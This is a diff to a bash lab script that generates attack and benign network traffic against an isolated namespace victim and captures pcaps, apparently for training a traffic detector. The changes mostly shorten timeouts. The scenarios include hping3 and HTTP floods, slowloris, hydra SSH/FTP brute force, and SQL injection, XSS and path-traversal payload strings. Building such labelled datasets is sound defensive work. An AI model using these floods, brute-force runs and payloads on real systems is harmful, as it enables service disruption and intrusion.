@@ -12,6 +12,7 @@
 # are removed on exit, whatever happens.
 #
 # Usage: sudo models/training/lab/lab.sh [--out DIR] [--only scenario,scenario] [--list]
+# All 52 scenarios: about 14 minutes (sum of the scenario bounds; less on an idle machine).
 # Needs: iproute2 tcpdump nginx-light openssh-server dnsmasq-base vsftpd iperf3 curl wget dnsutils
 #        nmap hping3 slowhttptest hydra apache2-utils openssl (see models/training/lab/README.md)
 set -euo pipefail
@@ -24,7 +25,7 @@ while (($#)); do
     --out) OUT_DIR="$2"; shift 2 ;;
     --only) ONLY="$2"; shift 2 ;;
     --list) grep -oE '^scenario_[a-z0-9_]+' "$0" | sed 's/^scenario_//'; exit 0 ;;
-    -h|--help) sed -n '2,17p' "$0"; exit 0 ;;
+    -h|--help) sed -n '2,18p' "$0"; exit 0 ;;
     *) echo "lab: unknown argument '$1' (try --help)" >&2; exit 1 ;;
   esac
 done
@@ -179,11 +180,11 @@ run_scenario() {
   # non-interactive shell ignore SIGINT, so it is stopped with SIGTERM, which tcpdump also handles cleanly.
   ip netns exec "$VIC" tcpdump -Z root -i ccflab-v -s 0 -U -w "$pcap" >/dev/null 2>&1 &
   local dump=$!
-  sleep 1
+  sleep 0.5
   local started
   started="$(date -u +%Y-%m-%dT%H:%M:%S.%3NZ)"
   "$@" >"$WORK/$name.out" 2>&1 || true
-  sleep 1
+  sleep 0.5
   local ended
   ended="$(date -u +%Y-%m-%dT%H:%M:%S.%3NZ)"
   kill -TERM "$dump"
@@ -246,13 +247,13 @@ scenario_dos_syn_flood() { timeout 60 hping3 -S -p 80 -i u100 -c 20000 "$VIC_IP"
 scenario_dos_udp_flood() { timeout 60 hping3 --udp -p 53 -i u200 -d 120 -c 15000 "$VIC_IP"; }
 scenario_dos_icmp_flood() { timeout 60 hping3 --icmp -i u200 -d 64 -c 10000 "$VIC_IP"; }
 scenario_dos_http_flood() { timeout 90 ab -n 15000 -c 50 "http://$VIC_IP/index.html"; }
-scenario_slow_dos_slowloris() { timeout 60 slowhttptest -H -c 300 -r 100 -i 5 -l 30 -u "http://$VIC_IP/" -p 3; }
-scenario_slow_dos_slowbody() { timeout 60 slowhttptest -B -c 200 -r 100 -i 5 -l 30 -s 8192 -u "http://$VIC_IP/app/login" -p 3; }
+scenario_slow_dos_slowloris() { timeout 60 slowhttptest -H -c 300 -r 100 -i 5 -l 22 -u "http://$VIC_IP/" -p 3; }
+scenario_slow_dos_slowbody() { timeout 60 slowhttptest -B -c 200 -r 100 -i 5 -l 22 -s 8192 -u "http://$VIC_IP/app/login" -p 3; }
 scenario_brute_force_ssh() {
-  timeout 120 hydra -l "$LAB_USER" -P "$LAB_DIR/wordlist.txt" -t 4 -f -I "ssh://$VIC_IP"
+  timeout 45 hydra -l "$LAB_USER" -P "$LAB_DIR/wordlist.txt" -t 4 -f -I "ssh://$VIC_IP"
 }
 scenario_brute_force_ftp() {
-  timeout 120 hydra -l "$LAB_USER" -P "$LAB_DIR/wordlist.txt" -t 4 -I "ftp://$VIC_IP"
+  timeout 45 hydra -l "$LAB_USER" -P "$LAB_DIR/wordlist.txt" -t 4 -I "ftp://$VIC_IP"
 }
 scenario_web_attack() {
   local payloads=("id=1%27%20OR%20%271%27=%271" "q=%3Cscript%3Ealert(1)%3C/script%3E" "file=../../../../etc/passwd"
@@ -288,7 +289,7 @@ scenario_benign_web_keepalive() {
   done
 }
 scenario_benign_dns_burst() {
-  seq 1 900 | timeout 120 xargs -P 2 -I{} bash -c 'n={};
+  seq 1 600 | timeout 60 xargs -P 2 -I{} bash -c 'n={};
     case $(( n % 5 )) in
       0) dig +short +tries=1 -t MX "mail$n.lab.test" @"$VIC_IP" ;;
       1) dig +short +tries=1 -t AAAA "www$n.example.lab" @"$VIC_IP" ;;
@@ -298,7 +299,7 @@ scenario_benign_dns_burst() {
     esac >/dev/null'
 }
 scenario_benign_mixed_slow() {
-  for round in $(seq 1 260); do
+  for round in $(seq 1 170); do
     timeout 10 curl -s -o /dev/null "http://$VIC_IP/page$(( (round * 11) % 20 + 1 )).html"
     timeout 5 dig +short +tries=1 "slow$round.lab.test" @"$VIC_IP" >/dev/null
     if (( round % 3 == 0 )); then timeout 10 curl -sk -o /dev/null "https://$VIC_IP/index.html"; fi
@@ -348,7 +349,7 @@ scenario_dos_icmp_flood_big() { timeout 60 hping3 --icmp -i u300 -d 1400 -c 6000
 scenario_dos_http_flood_c10() { timeout 60 ab -n 8000 -c 10 "http://$VIC_IP/page3.html"; }
 scenario_dos_http_flood_c200() { timeout 60 ab -n 10000 -c 200 "http://$VIC_IP/page1.html"; }
 scenario_dos_http_flood_curl() {
-  seq 1 2500 | timeout 60 xargs -P 16 -I{} curl -s -o /dev/null "http://$VIC_IP/index.html?flood={}"
+  seq 1 1500 | timeout 40 xargs -P 16 -I{} curl -s -o /dev/null "http://$VIC_IP/index.html?flood={}"
 }
 scenario_slow_dos_slowloris_fast() { timeout 45 slowhttptest -H -c 200 -r 50 -i 2 -l 22 -u "http://$VIC_IP/page2.html" -p 3; }
 scenario_slow_dos_slowread() {
@@ -356,10 +357,10 @@ scenario_slow_dos_slowread() {
 }
 scenario_slow_dos_slowloris_https() { timeout 45 slowhttptest -H -c 150 -r 50 -i 4 -l 22 -u "https://$VIC_IP/" -p 3; }
 scenario_slow_dos_slowbody_fast() { timeout 45 slowhttptest -B -c 150 -r 60 -i 2 -l 22 -s 4096 -u "http://$VIC_IP/app/feedback" -p 3; }
-scenario_brute_force_ssh_t8() { timeout 60 hydra -l admin -P "$LAB_DIR/wordlist.txt" -t 8 -I "ssh://$VIC_IP"; }
-scenario_brute_force_ssh_t2() { timeout 50 hydra -l "$LAB_USER" -e nsr -P "$LAB_DIR/wordlist.txt" -t 2 -I "ssh://$VIC_IP"; }
+scenario_brute_force_ssh_t8() { timeout 40 hydra -l admin -P "$LAB_DIR/wordlist.txt" -t 8 -I "ssh://$VIC_IP"; }
+scenario_brute_force_ssh_t2() { timeout 35 hydra -l "$LAB_USER" -e nsr -P "$LAB_DIR/wordlist.txt" -t 2 -I "ssh://$VIC_IP"; }
 scenario_brute_force_ftp_t8() { timeout 60 hydra -l admin -P "$LAB_DIR/wordlist.txt" -t 8 -I "ftp://$VIC_IP"; }
-scenario_brute_force_ftp_t1() { timeout 50 hydra -l root -e nsr -P "$LAB_DIR/wordlist.txt" -t 1 -I "ftp://$VIC_IP"; }
+scenario_brute_force_ftp_t1() { timeout 35 hydra -l root -e nsr -P "$LAB_DIR/wordlist.txt" -t 1 -I "ftp://$VIC_IP"; }
 scenario_web_attack_sqli() {
   local payloads=("id=1%20AND%20SLEEP(5)--" "id=1%27%20AND%201=1--%20-" "id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,version()--"
     "id=1;DROP%20TABLE%20users--" "user=admin%27--&pass=x" "id=1%29%20OR%20%28%271%27=%271")
